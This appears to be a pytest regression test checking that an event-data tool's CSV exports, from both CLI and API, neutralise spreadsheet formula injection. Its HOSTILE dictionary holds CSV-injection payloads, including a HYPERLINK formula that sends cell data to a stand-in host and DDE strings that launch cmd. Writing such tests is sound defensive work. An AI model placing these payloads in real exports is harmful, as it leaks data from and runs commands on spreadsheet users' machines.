"""CSV exports are safe to open in a spreadsheet (issue 26: 22 of 110 cells of a
hostile corpus started with =, +, - or @, unescaped).

The reader below imports a CSV file as a spreadsheet does: a cell that starts
with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) and is not a
number is a formula; a leading ``'`` makes the rest text.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import warnings
from pathlib import Path

import pytest

from eventwire.cli import main
from eventwire.records import Actor, CodedDocument, Document
from eventwire.store import open_store
from eventwire.records import Event

warnings.filterwarnings("ignore", message="Using `httpx` with `starlette.testclient`")

HOSTILE = {
    "sentence": '=HYPERLINK("http://evil.example/?"&A1,"Click for the source")',
    "trigger": "+cmd|' /C calc'!A0",
    "location": "-2+3+cmd|' /C calc'!A0",
    "rule": "@SUM(1+1)*cmd|' /C calc'!A0",
    "actor_names": "\t=1+1",
    "context": "\r=1+1",
}


def spreadsheet_cells(text: str) -> list[dict[str, tuple[str, str]]]:
    """Each row's cells as a spreadsheet takes them: (kind, what it shows)."""
    return [{name: _cell(value) for name, value in row.items()}
            for row in csv.DictReader(io.StringIO(text, newline=""))]


def _cell(value: str) -> tuple[str, str]:
    if value.startswith("'"):
        return "text", value[1:]
    try:
        float(value)
        return "number", value
    except ValueError:
        pass
    if value.startswith(("=", "+", "-", "@", "\t", "\r")):
        return "formula", value
    return "text", value


def hostile_events(events: list[Event]) -> list[Event]:
    first, *others = events
    first = dataclasses.replace(
        first, location=HOSTILE["location"], context=[HOSTILE["context"]],
        actor=[Actor("CHN", "MIL", name=HOSTILE["actor_names"])],
        evidence=dataclasses.replace(first.evidence, sentence=HOSTILE["sentence"],
                                     trigger=HOSTILE["trigger"], rule=HOSTILE["rule"],
                                     doc_id="d" * 16))
    return [first] + [dataclasses.replace(e, evidence=dataclasses.replace(e.evidence, doc_id="d" * 16))
                      for e in others]


@pytest.fixture
def hostile_db(tmp_path: Path, events: list[Event]) -> str:
    db = str(tmp_path / "h.db")
    document = Document(id="d" * 16, source="hostile.txt", text="x" * 400)
    with open_store(db) as store:
        store.save(CodedDocument(document, hostile_events(events), coder="hand"))
    return db


def _check(text: str) -> None:
    rows = spreadsheet_cells(text)
    formulas = [(name, shown) for row in rows for name, (kind, shown) in row.items() if kind == "formula"]
    assert formulas == []
    first = next(row for row in rows if row["sentence"][1] == HOSTILE["sentence"])
    for name, value in HOSTILE.items():  # the text is all there, shown as text
        assert first[name] == ("text", value)
    intensities = {row["intensity"] for row in rows}
    assert ("number", "-2.0") in intensities  # a negative number stays a number


def test_the_cli_csv_export_shows_formulas_as_text(hostile_db, tmp_path, capsys):
    out = tmp_path / "events.csv"
    with pytest.raises(SystemExit) as done:
        main(["export", "--db", hostile_db, "--format", "csv", "--output", str(out)])
    assert done.value.code == 0
    _check(out.read_bytes().decode("utf-8"))


def test_the_api_csv_export_shows_formulas_as_text(hostile_db):
    from fastapi.testclient import TestClient

    from eventwire.web import create_app
    with TestClient(create_app(hostile_db)) as client:
        answer = client.get("/api/export", params={"format": "csv", "include_negated": "true"})
    assert answer.status_code == 200
    _check(answer.text)
